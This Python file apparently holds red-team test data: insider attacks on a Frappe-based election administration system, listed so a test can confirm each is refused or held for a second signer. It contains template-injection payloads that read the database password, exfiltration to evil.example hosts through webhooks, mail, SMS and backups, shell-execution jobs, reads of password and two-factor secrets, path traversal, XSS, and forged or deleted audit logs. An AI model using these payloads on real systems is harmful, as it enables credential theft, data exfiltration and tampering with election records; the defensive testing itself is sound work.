"""Attacks by those who run the system, each alone, as a red team inside would list them before it tries. Data for `test_red_team`.

An Election Administrator (`administrator`, and `second.administrator`), a System Manager (`manager.sinov`) and the framework's own
Administrator. Marks as in `red_team`; besides them `$E` a protocol of a count, `$V` a vote, `$B` a membership, `$X` a change of configuration
that one person proposed, `$S` a number of the law, `$K` a trusted authority, `$A` a signature, `$H` an event of the chain, `$O` an
observer, `$L` a line of who looked at people, `$Q` the person behind the chair's login, `$G` a secret of a second factor,
`$Y` a passkey of the chair that is off, `$J` a note of a login, `$R` a report that the auditor had prepared, `$Z` when the tool for changes in bulk was last saved.
An attack that is not refused is held back until a second person signs: `test_red_team` compares what it would have changed.
"""

import json
from typing import Any

from red_team import METHOD, Attack, get, post, stock

ELECTIONS, SECOND, MANAGER, ROOT = "administrator", "second.administrator", "manager.sinov", "Administrator"
CHAIR, AUDITOR_LOGIN = "chair@esaylov.example", "auditor@esaylov.example"
MINE = {ELECTIONS: "administrator@esaylov.example", MANAGER: "manager.sinov@esaylov.example", ROOT: ROOT}
TEMPLATE = "{{ frappe.conf['db_' + 'password'] }}{{ frappe.db.sql('select pinfl from tabPerson') }}"
OUTSIDE = "https://evil.example/x"


def written(
	title: str, who: str, doctype: str, name: str, /, is_refused: bool = True, **values: Any
) -> Attack:
	"""PUT of a document."""
	path = f"/api/resource/{doctype}/{name}"
	return Attack(title, who, "PUT", path, json=values, is_refused=is_refused)


def entered(title: str, who: str, doctype: str, /, is_refused: bool = True, **values: Any) -> Attack:
	"""POST of a new document."""
	return Attack(title, who, "POST", f"/api/resource/{doctype}", json=values, is_refused=is_refused)


def removed(title: str, who: str, doctype: str, name: str) -> Attack:
	return Attack(title, who, "DELETE", f"/api/resource/{doctype}/{name}")


def saved(title: str, who: str, **document: Any) -> Attack:
	"""A form of the Desk that is saved."""
	values = {"doc": json.dumps(document), "action": "Save"}
	return Attack(title, who, "POST", f"{METHOD}frappe.desk.form.save.savedocs", json=values)


SET = "frappe.client.set_value"
ANNULLED = {"doctype": "Decision", "name": "$D", "fieldname": "status", "value": "Annulled"}
DECIDED: tuple[Attack, ...] = (
	stock("a decision annulled by set_value", ELECTIONS, SET, **ANNULLED),
	stock("a decision annulled by set_value of root", ROOT, SET, **ANNULLED),
	written("an appeal granted by REST", ELECTIONS, "Appeal", "$N", status="Granted"),
	written("an appeal granted by REST of root", ROOT, "Appeal", "$N", status="Granted"),
	written("a vote turned", ROOT, "Commission Vote", "$V", choice="Against"),
	written("a protocol of a count signed", ROOT, "Count Protocol", "$E", status="Signed", counted=9),
	written("an observer registered", MANAGER, "Observer", "$O", status="Registered", full_name="Begona"),
	written("a signature of another's name", ROOT, "Document Signature", "$A", signer_name="Begona"),
	saved(
		"a decision with flags of its own",
		ROOT,
		doctype="Decision",
		name="$D",
		status="Annulled",
		ignore_permissions=1,
		__islocal=0,
		in_import=1,
	),
	stock(
		"a step of the workflow by root",
		ROOT,
		"frappe.model.workflow.apply_workflow",
		doc={"doctype": "Appeal", "name": "$N"},
		action="Grant",
	),
	stock(
		"a decision of a list, changed in bulk",
		ROOT,
		"frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs",
		is_refused=False,
		doctype="Decision",
		docnames='["$D"]',
		action="update",
		data='{"status": "Annulled"}',
	),
	stock(
		"the tool for changes in bulk",
		MANAGER,
		"frappe.handler.run_doc_method",
		is_refused=False,
		method="bulk_update",
		docs={
			"doctype": "Bulk Update",
			"document_type": "Decision",
			"field": "status",
			"update_value": "Annulled",
			"condition": "1=1",
			"limit": 2,
			"name": "Bulk Update",
			"modified": "$Z",
		},
	),
	stock(
		"a column written past everything by run_doc_method",
		ROOT,
		"run_doc_method",
		method="db_set",
		dt="Decision",
		dn="$D",
		args={"fieldname": "status", "value": "Annulled"},
	),
	Attack(
		"a column written past everything by the second address",
		ROOT,
		"POST",
		"/api/v2/document/Decision/$D/method/db_set",
		json={"fieldname": "status", "value": "Annulled"},
	),
	stock(
		"a card of a board moved",
		ROOT,
		"frappe.desk.doctype.kanban_board.kanban_board.update_order_for_single_card",
		board_name="Sinov",
		docname="$N",
		from_colname="Registered",
		to_colname="Granted",
		old_index=0,
		new_index=0,
	),
	stock(
		"a day moved in a calendar",
		ROOT,
		"frappe.desk.calendar.update_event",
		args='{"doctype": "Appeal", "name": "$N", "due_on": "2030-01-01"}',
		field_map='{"start": "due_on", "end": "correct_until"}',
	),
	stock("a decision cancelled", ROOT, "frappe.client.cancel", doctype="Decision", name="$D"),
	stock(
		"a decision cancelled by its form",
		ROOT,
		"frappe.desk.form.save.cancel",
		doctype="Decision",
		name="$D",
	),
	written("a decision cancelled by its number", ROOT, "Decision", "$D", docstatus=2),
	entered("a decision amended", MANAGER, "Decision", amended_from="$D", status="Signed", title="Begona"),
	stock("a decision deleted", ROOT, "frappe.client.delete", doctype="Decision", name="$D"),
	stock(
		"decisions deleted from a list",
		MANAGER,
		"frappe.desk.reportview.delete_items",
		doctype="Decision",
		items='["$D"]',
	),
	removed("a vote deleted", ROOT, "Commission Vote", "$V"),
	removed("a signature deleted", ROOT, "Document Signature", "$A"),
	removed("an event of the chain deleted", ROOT, "Chain Event", "$H"),
	entered(
		"an event of the chain forged", ROOT, "Chain Event", commission="DC-1726277", kind="x", hash="0" * 64
	),
	written("an event of the chain rewritten", MANAGER, "Chain Event", "$H", hash="0" * 64),
	removed("an entry of who looked at people deleted", ROOT, "Personal Data Access", "$L"),
	stock(
		"an appeal under another name",
		ROOT,
		"frappe.model.rename_doc.update_document_title",
		doctype="Appeal",
		docname="$N",
		name="begona",
	),
	stock(
		"a commission merged into another",
		ROOT,
		"frappe.model.rename_doc.update_document_title",
		doctype="Election Commission",
		docname="DC-1726277",
		name="DC-1735",
		merge=1,
	),
	stock(
		"a commission renamed by the client's method",
		ELECTIONS,
		"frappe.client.rename_doc",
		doctype="Election Commission",
		old_name="DC-1726277",
		new_name="DC-1",
	),
	entered(
		"decisions brought in by an import",
		MANAGER,
		"Data Import",
		reference_doctype="Decision",
		import_type="Update Existing Records",
	),
	stock(
		"what was deleted brought back",
		ROOT,
		"frappe.core.doctype.deleted_document.deleted_document.restore",
		name="x",
	),
	written("a filed paper with other bytes", ELECTIONS, "File", "$F", file_url="/private/files/begona.pdf"),
	written("a filed paper made public", ROOT, "File", "$F", is_private=0),
	removed("a filed paper deleted", ROOT, "File", "$F"),
)
SCRIPT = {"script": "frappe.db.set_value('Decision', '$D', 'status', 'Annulled')"}
OVERRIDES: tuple[Attack, ...] = tuple(
	entered(f"{doctype} of {who}", who, doctype, **values)
	for who, doctype, values in (
		(ROOT, "Server Script", {"script_type": "API", "api_method": "begona", "name": "begona", **SCRIPT}),
		(MANAGER, "Client Script", {"dt": "Appeal", "enabled": 1, "script": "alert(1)", "name": "begona"}),
		(
			ROOT,
			"Property Setter",
			{
				"doctype_or_field": "DocField",
				"doc_type": "Decision",
				"field_name": "status",
				"property": "read_only",
				"property_type": "Check",
				"value": "0",
			},
		),
		(
			MANAGER,
			"Custom DocPerm",
			{"parent": "Decision", "role": "System Manager", "write": 1, "delete": 1},
		),
		(ROOT, "Custom Field", {"dt": "Decision", "fieldname": "begona", "fieldtype": "Data", "label": "x"}),
		(
			MANAGER,
			"DocType",
			{"name": "Begona", "module": "Esaylov", "custom": 1, "fields": [], "permissions": []},
		),
		(
			MANAGER,
			"Notification",
			{
				"name": "begona",
				"subject": TEMPLATE,
				"document_type": "ToDo",
				"event": "Save",
				"channel": "System Notification",
				"message": TEMPLATE,
				"recipients": [{"receiver_by_document_field": "owner"}],
			},
		),
		(
			ROOT,
			"Webhook",
			{
				"name": "begona",
				"webhook_doctype": "Appeal",
				"webhook_docevent": "on_update",
				"request_url": OUTSIDE,
			},
		),
		(
			MANAGER,
			"Web Page",
			{"title": "begona", "route": "begona", "main_section": TEMPLATE, "published": 1},
		),
		(ROOT, "Web Template", {"name": "begona", "type": "Section", "template": TEMPLATE}),
		(MANAGER, "Letter Head", {"letter_head_name": "begona", "source": "HTML", "content": TEMPLATE}),
		(
			ROOT,
			"Report",
			{
				"report_name": "begona",
				"ref_doctype": "Person",
				"report_type": "Query Report",
				"is_standard": "No",
				"query": "select pinfl from tabPerson",
			},
		),
		(
			MANAGER,
			"Auto Email Report",
			{
				"report": "Overdue Appeals",
				"user": MINE[MANAGER],
				"email_to": "a@evil.example",
				"frequency": "Daily",
			},
		),
		(
			ROOT,
			"Assignment Rule",
			{
				"name": "begona",
				"document_type": "Appeal",
				"assign_condition": TEMPLATE,
				"rule": "Round Robin",
				"description": "x",
				"users": [{"user": ROOT}],
				"assignment_days": [{"day": "Monday"}],
			},
		),
		(MANAGER, "Package Import", {"attach_package": "/private/files/begona.tar.gz", "activate": 1}),
		(ROOT, "Scheduled Job Type", {"method": "frappe.utils.execute_in_shell", "frequency": "All"}),
		(MANAGER, "Email Template", {"name": "begona", "subject": TEMPLATE, "response": TEMPLATE}),
		(ROOT, "Social Login Key", {"provider_name": "begona", "client_id": "x", "base_url": OUTSIDE}),
		(
			MANAGER,
			"Email Account",
			{"email_id": "a@evil.example", "email_account_name": "x", "enable_outgoing": 1},
		),
		(ROOT, "Custom HTML Block", {"name": "begona", "html": "<b>x</b>", "script": "alert(1)"}),
		(
			MANAGER,
			"Translation",
			{"language": "uz", "source_text": "Save", "translated_text": "<script>alert(1)"},
		),
	)
)
CODE: tuple[Attack, ...] = (
	stock(
		"the console of the system",
		ROOT,
		"frappe.desk.doctype.system_console.system_console.execute_code",
		doc={"doctype": "System Console", "console": "log(frappe.conf.db_password)", "type": "Python"},
	),
	stock(
		"a right by the manager of permissions",
		MANAGER,
		"frappe.core.page.permission_manager.permission_manager.add",
		parent="Decision",
		role="System Manager",
		permlevel=0,
	),
	stock(
		"a form customised",
		ROOT,
		"run_doc_method",
		method="save_customization",
		docs={"doctype": "Customize Form", "doc_type": "Decision", "fields": [], "allow_import": 1},
	),
	stock(
		"a job started by its name",
		MANAGER,
		"frappe.core.doctype.scheduled_job_type.scheduled_job_type.execute_event",
		doc='{"name": "begona", "method": "frappe.utils.execute_in_shell"}',
	),
	stock(
		"the queries of others, recorded",
		MANAGER,
		"frappe.recorder.start",
	),
	stock(
		"the set-up of the site once more",
		MANAGER,
		"frappe.desk.page.setup_wizard.setup_wizard.setup_complete",
		args="{}",
	),
	stock("a report that is not saved", MANAGER, "frappe.desk.query_report.run", report_name="begona"),
	entered(
		"a print format that reads the settings of the server",
		MANAGER,
		"Print Format",
		is_refused=False,
		name="begona",
		doc_type="User",
		custom_format=1,
		print_format_type="Jinja",
		html=TEMPLATE,
	),
	get(
		"a print by it before a second person saw it",
		MANAGER,
		"/printview",
		is_refused=False,
		doctype="User",
		name=MINE[MANAGER],
		format="begona",
	),
	stock(
		"a template that is sent with the print",
		MANAGER,
		"frappe.www.printview.get_html_and_style",
		doc='{"doctype": "ToDo", "description": "x", "name": "x"}',
		print_format=json.dumps({"doctype": "Print Format", "html": TEMPLATE, "custom_format": 1}),
	),
)
SETTINGS = {"doctype": "System Settings", "name": "System Settings"}
TRUST: tuple[Attack, ...] = (
	written(
		"a second factor switched off",
		MANAGER,
		"System Settings",
		"System Settings",
		is_refused=False,
		enable_two_factor_auth=1,
		session_expiry="9999:00",
	),
	stock(
		"a limit of tries lifted by set_value",
		ROOT,
		SET,
		is_refused=False,
		**SETTINGS,
		fieldname="allow_consecutive_login_attempts",
		value=99999,
	),
	written(
		"a role of a chair for oneself",
		ELECTIONS,
		"User",
		MINE[ELECTIONS],
		is_refused=False,
		roles=[{"role": "Commission Chair"}, {"role": "System Manager"}, {"role": "Election Administrator"}],
	),
	written(
		"a role of an administrator for oneself",
		MANAGER,
		"User",
		MINE[MANAGER],
		is_refused=False,
		roles=[{"role": "Election Administrator"}, {"role": "System Manager"}],
	),
	entered(
		"a profile of roles",
		MANAGER,
		"Role Profile",
		is_refused=False,
		role_profile="begona",
		roles=[{"role": "Commission Chair"}],
	),
	entered(
		"a seat in a commission for oneself",
		ELECTIONS,
		"Commission Membership",
		is_refused=False,
		commission="DC-1726277",
		position="Chair",
		person="$P",
		starts_on="2026-01-01",
	),
	written(
		"a seat that becomes the chair's",
		ELECTIONS,
		"Commission Membership",
		"$B",
		is_refused=False,
		position="Chair",
	),
	written(
		"the password of a chair by an administrator",
		ELECTIONS,
		"User",
		CHAIR,
		new_password="tuya-choynak-deraza-9",
	),
	stock("keys in a chair's name", MANAGER, "frappe.core.doctype.user.user.generate_keys", user=CHAIR),
	stock("in as a chair", ROOT, "frappe.core.doctype.user.user.impersonate", user=CHAIR, reason="x"),
	written(
		"another service that says who the chair is",
		MANAGER,
		"User",
		CHAIR,
		social_logins=[{"provider": "github", "userid": "1"}],
	),
	stock(
		"a chair's login under another name",
		MANAGER,
		"frappe.model.rename_doc.update_document_title",
		doctype="User",
		docname=CHAIR,
		name="begona@evil.example",
	),
	written("an official's phone", ELECTIONS, "Person", "$Q", is_refused=False, phone="+998901112233"),
	written("an authority in force", ELECTIONS, "Trusted Certificate", "$K", is_refused=False, is_active=1),
	stock(
		"numbers of people by a manager's list",
		MANAGER,
		"frappe.desk.reportview.get",
		doctype="Person",
		fields='["pinfl"]',
	),
	stock(
		"somebody else's right to enter, by a rule about rows",
		ELECTIONS,
		"frappe.core.doctype.user_permission.user_permission.add_user_permissions",
		data={
			"user": CHAIR,
			"doctype": "Election Commission",
			"docname": "DC-1726277",
			"apply_to_all_doctypes": 1,
		},
	),
	stock(
		"the counter of decisions set back",
		MANAGER,
		"run_doc_method",
		method="update_series_start",
		docs={
			"doctype": "Document Naming Settings",
			"name": "Document Naming Settings",
			"prefix": "DC-1726277",
			"current_value": 0,
		},
	),
	entered(
		"a record of a login forged",
		MANAGER,
		"Activity Log",
		user=CHAIR,
		subject="x",
		operation="Login",
		status="Success",
	),
	entered(
		"what was deleted forged",
		MANAGER,
		"Deleted Document",
		deleted_doctype="Decision",
		deleted_name="$D",
		data="{}",
	),
	written(
		"the log of logins emptied sooner",
		MANAGER,
		"Log Settings",
		"Log Settings",
		is_refused=False,
		logs_to_clear=[{"ref_doctype": "Chain Event", "days": 1}],
	),
	removed("an authority removed", ROOT, "Trusted Certificate", "$K"),
	written("a number of the law", ELECTIONS, "Statute", "$S", value="99"),
	written(
		"OneID led elsewhere",
		ELECTIONS,
		"OneID Settings",
		"OneID Settings",
		is_refused=False,
		is_enabled=1,
		address=OUTSIDE,
		client_id="begona",
		scope="x",
		client_secret="x",
	),
	entered("a passkey in a chair's name", ROOT, "Passkey", user=CHAIR, credential="x", public_key="x"),
	post("one's own proposal confirmed", ELECTIONS, "configuration.confirm", change="$X", signature="MAAA"),
	post("a finding accepted without a signature", SECOND, "configuration.accept", finding="$X", reason="x"),
	written("a proposal confirmed by REST", ROOT, "Configuration Change", "$X", status="In Force"),
	removed("a proposal removed", ROOT, "Configuration Change", "$X"),
	stock(
		"a right taken by a share",
		MANAGER,
		"frappe.share.add",
		doctype="Appeal",
		name="$N",
		user=MINE[MANAGER],
		read=1,
		write=1,
		share=1,
	),
	stock(
		"an appeal shared with a rival",
		ELECTIONS,
		"frappe.share.add",
		doctype="Appeal",
		name="$N",
		user="rival@esaylov.example",
		read=1,
		write=1,
		share=1,
	),
	stock(
		"an appeal given to a rival as a task",
		ELECTIONS,
		"frappe.desk.form.assign_to.add",
		doctype="Appeal",
		name="$N",
		assign_to='["rival@esaylov.example"]',
		description="x",
	),
	stock(
		"an appeal sent to an address outside",
		ELECTIONS,
		"frappe.core.doctype.communication.email.make",
		doctype="Appeal",
		name="$N",
		recipients="a@evil.example",
		subject="x",
		content="x",
		send_email=1,
		print_format="Standard",
	),
)
READ: tuple[Attack, ...] = (
	stock(
		"a password in clear",
		ROOT,
		"frappe.client.get_password",
		doctype="User",
		name=CHAIR,
		fieldname="password",
	),
	get("the table of passwords", ROOT, "/api/resource/__Auth", fields='["*"]'),
	get("sessions of others", ROOT, "/api/resource/Sessions", fields='["*"]'),
	get("numbers of people by a manager", MANAGER, "/api/resource/Person", fields='["pinfl","phone"]'),
	stock("the key of backups", ROOT, "frappe.utils.backups.get_backup_encryption_key"),
	get("a backup by its address", ROOT, "/backups/20260101_000000-test_localhost-database.sql.gz"),
	get("the settings of the server as a file", ROOT, "/private/files/..%2f..%2fsite_config.json"),
)
SECOND_FACTORS: tuple[Attack, ...] = (
	*(
		stock(f"a chair's second factor reset by {who}", who, "frappe.twofactor.reset_otp_secret", user=CHAIR)
		for who in (MANAGER, ROOT)
	),
	*(
		get(f"secrets of second factors by REST, {who}", who, "/api/resource/DefaultValue", fields='["*"]')
		for who in (MANAGER, ROOT)
	),
	get("a secret of a second factor by its name", ROOT, "/api/resource/DefaultValue/$G"),
	stock(
		"secrets of second factors by the client's list",
		ROOT,
		"frappe.client.get_list",
		doctype="DefaultValue",
		fields=["defkey", "defvalue"],
		filters={"parent": "__2fa"},
		parent="__2fa",
	),
	stock(
		"a secret of a second factor by one value",
		ROOT,
		"frappe.client.get_value",
		doctype="DefaultValue",
		fieldname="defvalue",
		filters={"defkey": "sinov.begona_otpsecret"},
	),
	stock(
		"secrets of second factors by a report of a list",
		MANAGER,
		"frappe.desk.reportview.get",
		doctype="DefaultValue",
		fields='["defkey", "defvalue"]',
		filters='[["parent", "=", "__2fa"]]',
	),
	stock(
		"secrets of second factors under the parent of another",
		ROOT,
		"frappe.desk.reportview.get",
		doctype="DefaultValue",
		parent_doctype="User",
		fields='["defkey", "defvalue"]',
	),
	entered(
		"a secret of a second factor written",
		ROOT,
		"DefaultValue",
		parent="__2fa",
		parenttype="__2fa",
		parentfield="system_defaults",
		defkey=f"{CHAIR}_otpsecret",
		defvalue="begona",
	),
	written("a secret of a second factor changed", ROOT, "DefaultValue", "$G", defvalue="begona"),
	removed("a secret of a second factor taken away", ROOT, "DefaultValue", "$G"),
	written("a passkey of another switched on", ROOT, "Passkey", "$Y", is_active=1),
	written("a passkey of another given to oneself", MANAGER, "Passkey", "$Y", user=MINE[MANAGER]),
	removed("a passkey of another taken away", ROOT, "Passkey", "$Y"),
	post("a passkey of another ended", MANAGER, "passkeys.remove", passkey="$Y"),
	stock(
		"a default by the session's own",
		MANAGER,
		"frappe.core.doctype.session_default_settings.session_default_settings.set_session_default_values",
		is_refused=False,
		default_values=json.dumps({f"{CHAIR}_otpsecret": "begona", "parent": "__2fa"}),
	),
	written("the password of a chair by root", ROOT, "User", CHAIR, new_password="tuya-choynak-deraza-9"),
	stock(
		"the password of a chair by set_value",
		ROOT,
		SET,
		doctype="User",
		name=CHAIR,
		fieldname="new_password",
		value="tuya-choynak-deraza-9",
	),
	saved(
		"the password of a chair by the form",
		ROOT,
		doctype="User",
		name=CHAIR,
		email=CHAIR,
		first_name="x",
		new_password="tuya-choynak-deraza-9",
	),
	written(
		"the password of an auditor by a manager",
		MANAGER,
		"User",
		AUDITOR_LOGIN,
		new_password="tuya-choynak-9x",
	),
	stock(
		"a link to a new password of a chair",
		ROOT,
		"frappe.core.doctype.user.user.reset_password",
		user=CHAIR,
	),
	stock(
		"a link to a new password, by a method of the document",
		ROOT,
		"run_doc_method",
		method="reset_password",
		dt="User",
		dn=CHAIR,
	),
	stock("a chair's session ended and taken", ROOT, "frappe.sessions.clear", user=CHAIR, is_refused=False),
	entered(
		"codes by a gateway of one's own",
		MANAGER,
		"SMS Settings",
		sms_gateway_url=OUTSIDE,
		message_parameter="m",
		receiver_parameter="r",
	),
	written(
		"codes led to a gateway of one's own",
		MANAGER,
		"SMS Settings",
		"SMS Settings",
		sms_gateway_url=OUTSIDE,
		message_parameter="m",
		receiver_parameter="r",
	),
)
NOTES: tuple[Attack, ...] = (
	*(
		entered(f"a note of {doctype} forged by {who}", who, doctype, **values)
		for who in (MANAGER, ROOT)
		for doctype, values in (
			("Access Log", {"user": CHAIR, "export_from": "Appeal"}),
			("Version", {"ref_doctype": "Decision", "docname": "$D", "data": "{}"}),
			("View Log", {"reference_doctype": "Decision", "reference_name": "$D", "viewed_by": CHAIR}),
		)
	),
	entered(
		"a record of a login forged by root",
		ROOT,
		"Activity Log",
		user=CHAIR,
		subject="x",
		operation="Login",
		status="Success",
	),
	entered(
		"what was deleted forged by root",
		ROOT,
		"Deleted Document",
		deleted_doctype="Decision",
		deleted_name="$D",
	),
	written("a record of a login rewritten", ROOT, "Activity Log", "$J", user="party@esaylov.example"),
	stock(
		"a record of a login rewritten by set_value",
		MANAGER,
		SET,
		doctype="Activity Log",
		name="$J",
		fieldname="status",
		value="Failed",
	),
	removed("a record of a login deleted", ROOT, "Activity Log", "$J"),
	removed("a record of a login deleted by a manager", MANAGER, "Activity Log", "$J"),
	stock(
		"records of logins deleted from a list",
		ROOT,
		"frappe.desk.reportview.delete_items",
		is_refused=False,
		doctype="Activity Log",
		items='["$J"]',
	),
	stock(
		"records of logins changed in bulk",
		ROOT,
		"frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs",
		is_refused=False,
		doctype="Activity Log",
		docnames='["$J"]',
		action="update",
		data='{"status": "Failed"}',
	),
	written(
		"records of logins kept for no day",
		MANAGER,
		"Log Settings",
		"Log Settings",
		is_refused=False,
		logs_to_clear=[{"ref_doctype": "Activity Log", "days": 1}],
	),
)
OF_OTHERS: tuple[Attack, ...] = (
	get("a prepared report of another by REST", MANAGER, "/api/resource/Prepared Report/$R"),
	stock(
		"the file of a prepared report of another",
		MANAGER,
		"frappe.core.doctype.prepared_report.prepared_report.download_attachment",
		dn="$R",
	),
	stock(
		"prepared reports of another deleted",
		MANAGER,
		"frappe.core.doctype.prepared_report.prepared_report.delete_prepared_reports",
		is_refused=False,
		reports='[{"name": "$R"}]',
	),
	entered(
		"a report prepared in another's name",
		MANAGER,
		"Prepared Report",
		report_name="Access to Personal Data",
		owner="auditor@esaylov.example",
	),
	get(
		"rows of the table of passwords by a list",
		MANAGER,
		f"{METHOD}frappe.desk.reportview.get",
		doctype="__Auth",
	),
	stock("passwords by the client", ROOT, "frappe.client.get_value", doctype="__Auth", fieldname="password"),
	entered(
		"a report that reads the table of passwords",
		ROOT,
		"Report",
		report_name="begona",
		ref_doctype="User",
		report_type="Query Report",
		is_standard="No",
		query="select * from `__Auth`",
	),
	entered(
		"a report that is a script",
		MANAGER,
		"Report",
		report_name="begona",
		ref_doctype="User",
		report_type="Script Report",
		is_standard="No",
		report_script="data = frappe.db.sql('select * from `__Auth`')",
	),
	*(
		entered(
			f"{doctype} brought in by an import of {who}",
			who,
			"Data Import",
			reference_doctype=doctype,
			import_type="Insert New Records",
		)
		for who, doctype in ((MANAGER, "User"), (ROOT, "Role"), (ROOT, "Commission Membership"))
	),
	entered(
		"a key by which guests read an appeal",
		ROOT,
		"Document Share Key",
		reference_doctype="Appeal",
		reference_docname="$N",
		expires_on="2030-01-01",
		key="begona",
	),
	get(
		"an appeal by a key for guests",
		MANAGER,
		"/printview",
		doctype="Appeal",
		name="$N",
		key="begona",
	),
	stock(
		"queries of others as they run",
		ROOT,
		"frappe.desk.doctype.system_console.system_console.show_processlist",
	),
	stock(
		"jobs with what they were given",
		MANAGER,
		"frappe.desk.reportview.get",
		is_refused=False,
		doctype="RQ Job",
		fields='["name", "arguments"]',
	),
	stock("a job of another stopped", ROOT, "frappe.core.doctype.rq_job.rq_job.stop_job", job_id="x"),
	stock(
		"a backup of the files",
		MANAGER,
		"frappe.desk.page.backups.backups.schedule_files_backup",
		user_email="a@evil.example",
	),
	stock(
		"the order of programs changed",
		MANAGER,
		"frappe.core.doctype.installed_applications.installed_applications.update_installed_apps_order",
		new_order='["esaylov", "frappe"]',
	),
	stock(
		"a code of another's form by its preview",
		MANAGER,
		"frappe.email.doctype.email_template.email_template.get_email_template",
		template_name="begona",
		doc={"doctype": "Decision", "name": "$D"},
	),
	stock(
		"a message by a gateway of the framework",
		MANAGER,
		"frappe.core.doctype.sms_settings.sms_settings.send_sms",
		receiver_list='["+998901112233"]',
		msg="x",
	),
)
FURTHER: tuple[Attack, ...] = tuple(
	entered(f"{title}, {who}", who, doctype, **values)
	for title, who, doctype, values in (
		(
			"a chart of a custom source",
			ROOT,
			"Dashboard Chart",
			{
				"chart_name": "begona",
				"chart_type": "Custom",
				"source": "begona",
				"type": "Bar",
				"filters_json": "[]",
			},
		),
		(
			"a source of charts",
			MANAGER,
			"Dashboard Chart Source",
			{"source_name": "begona", "module": "Esaylov"},
		),
		(
			"a card that calls a function",
			MANAGER,
			"Number Card",
			{
				"label": "begona",
				"type": "Custom",
				"method": "frappe.utils.execute_in_shell",
				"filters_json": "[]",
			},
		),
		(
			"a card with a filter that runs",
			ROOT,
			"Number Card",
			{
				"label": "begona",
				"type": "Document Type",
				"document_type": "ToDo",
				"function": "Count",
				"filters_json": "[]",
				"dynamic_filters_json": '[["ToDo","owner","=","alert(1)"]]',
			},
		),
		(
			"a form on the site",
			ROOT,
			"Web Form",
			{
				"title": "begona",
				"route": "begona",
				"doc_type": "ToDo",
				"module": "Esaylov",
				"client_script": "alert(1)",
			},
		),
		(
			"a tracker of states",
			MANAGER,
			"Milestone Tracker",
			{"document_type": "Appeal", "track_field": "status"},
		),
		(
			"a rule of points with code",
			ROOT,
			"Energy Point Rule",
			{
				"rule_name": "begona",
				"reference_doctype": "Appeal",
				"for_doc_event": "Custom",
				"condition": TEMPLATE,
				"user_field": "owner",
				"points": 1,
			},
		),
		(
			"a type of users with rights",
			MANAGER,
			"User Type",
			{
				"name": "begona",
				"role": "Commission Chair",
				"apply_user_permission_on": "User",
				"user_id_field": "name",
				"user_doctypes": [{"document_type": "Decision", "read": 1, "write": 1}],
			},
		),
		(
			"a client of OAuth",
			ROOT,
			"OAuth Client",
			{
				"app_name": "begona",
				"redirect_uris": OUTSIDE,
				"default_redirect_uri": OUTSIDE,
				"scopes": "all",
			},
		),
		(
			"a token of OAuth",
			ROOT,
			"OAuth Bearer Token",
			{"client": "x", "user": CHAIR, "access_token": "begona", "expires_in": 99999},
		),
		(
			"a code of OAuth",
			ROOT,
			"OAuth Authorization Code",
			{"client": "x", "user": CHAIR, "authorization_code": "begona"},
		),
		(
			"another service of OAuth",
			MANAGER,
			"Connected App",
			{"provider_name": "begona", "openid_configuration": OUTSIDE},
		),
		(
			"a token of another service",
			MANAGER,
			"Token Cache",
			{"user": CHAIR, "connected_app": "x", "access_token": "x"},
		),
		("a package of documents", MANAGER, "Package", {"package_name": "begona", "readme": "x"}),
		("a release of a package", ROOT, "Package Release", {"package": "begona", "publish": 1}),
		(
			"a module of a program",
			ROOT,
			"Module Def",
			{"module_name": "begona", "app_name": "frappe", "custom": 0},
		),
		("a patch that ran", ROOT, "Patch Log", {"patch": "esaylov.patches.begona"}),
		("a script of the website", ROOT, "Website Script", {"javascript": "alert(1)"}),
		(
			"documents that repeat",
			MANAGER,
			"Auto Repeat",
			{
				"reference_doctype": "ToDo",
				"reference_document": "x",
				"frequency": "Daily",
				"subject": TEMPLATE,
			},
		),
		(
			"a rule of names",
			MANAGER,
			"Document Naming Rule",
			{"document_type": "Decision", "prefix": "begona-", "prefix_digits": 5},
		),
		("a producer of events", ROOT, "Event Producer", {"producer_url": OUTSIDE, "user": CHAIR}),
		("a consumer of events", ROOT, "Event Consumer", {"callback_url": OUTSIDE, "user": CHAIR}),
		(
			"a note that all see as markup",
			MANAGER,
			"Client Script",
			{"dt": "ToDo", "script": "alert(1)", "enabled": 1, "name": "begona"},
		),
		(
			"a backup to a bucket outside",
			MANAGER,
			"S3 Backup Settings",
			{
				"enabled": 1,
				"bucket": "begona",
				"access_key_id": "x",
				"secret_access_key": "x",
				"endpoint_url": OUTSIDE,
				"notify_email": "a@evil.example",
				"frequency": "Daily",
			},
		),
		(
			"a role for a page",
			ROOT,
			"Custom Role",
			{"report": "Access to Personal Data", "roles": [{"role": "System Manager"}]},
		),
		(
			"a person of the site that follows an appeal",
			MANAGER,
			"Document Follow",
			{"ref_doctype": "Appeal", "ref_docname": "$N", "user": MINE[MANAGER]},
		),
		(
			"a mail that the server sends",
			MANAGER,
			"Email Queue",
			{"sender": "a@evil.example", "message": "x", "recipients": [{"recipient": "a@evil.example"}]},
		),
		("an address template", ROOT, "Address Template", {"country": "Uzbekistan", "template": TEMPLATE}),
	)
)
LED_ELSEWHERE: tuple[Attack, ...] = tuple(
	written(title, who, doctype, doctype, **values)
	for title, who, doctype, values in (
		(
			"a directory that says who enters",
			MANAGER,
			"LDAP Settings",
			{"enabled": 1, "ldap_server_url": OUTSIDE},
		),
		("the console as a document", ROOT, "System Console", {"console": "x", "type": "Python"}),
		("guests registered by OAuth", MANAGER, "OAuth Settings", {"enable_dynamic_client_registration": 1}),
		(
			"push messages by a relay outside",
			MANAGER,
			"Push Notification Settings",
			{"enable_push_notification_relay": 1, "api_key": "x", "api_secret": "x"},
		),
		("the head of every page", ROOT, "Website Settings", {"head_html": "<script>alert(1)</script>"}),
		("the menu of the Desk", MANAGER, "Navbar Settings", {"help_dropdown": []}),
		(
			"maps by a service outside",
			MANAGER,
			"Geolocation Settings",
			{"enable_address_autocompletion": 1, "base_url": OUTSIDE},
		),
	)
)
FILES: tuple[Attack, ...] = tuple(
	Attack(
		f"{title} of {who}",
		who,
		"POST",
		f"{METHOD}upload_file",
		data={"is_private": "0"},
		file=(name, content),
	)
	for who in (ELECTIONS, MANAGER, ROOT)
	for title, name, content in (("a public page", "x.html", b"<script>alert(1)</script>"),)
)
ATTACKS = (
	*DECIDED,
	*OVERRIDES,
	*CODE,
	*TRUST,
	*READ,
	*SECOND_FACTORS,
	*NOTES,
	*OF_OTHERS,
	*FURTHER,
	*LED_ELSEWHERE,
	*FILES,
)
"""Sent in this order: what is printed was made before."""
CONTROLS: tuple[Attack, ...] = (
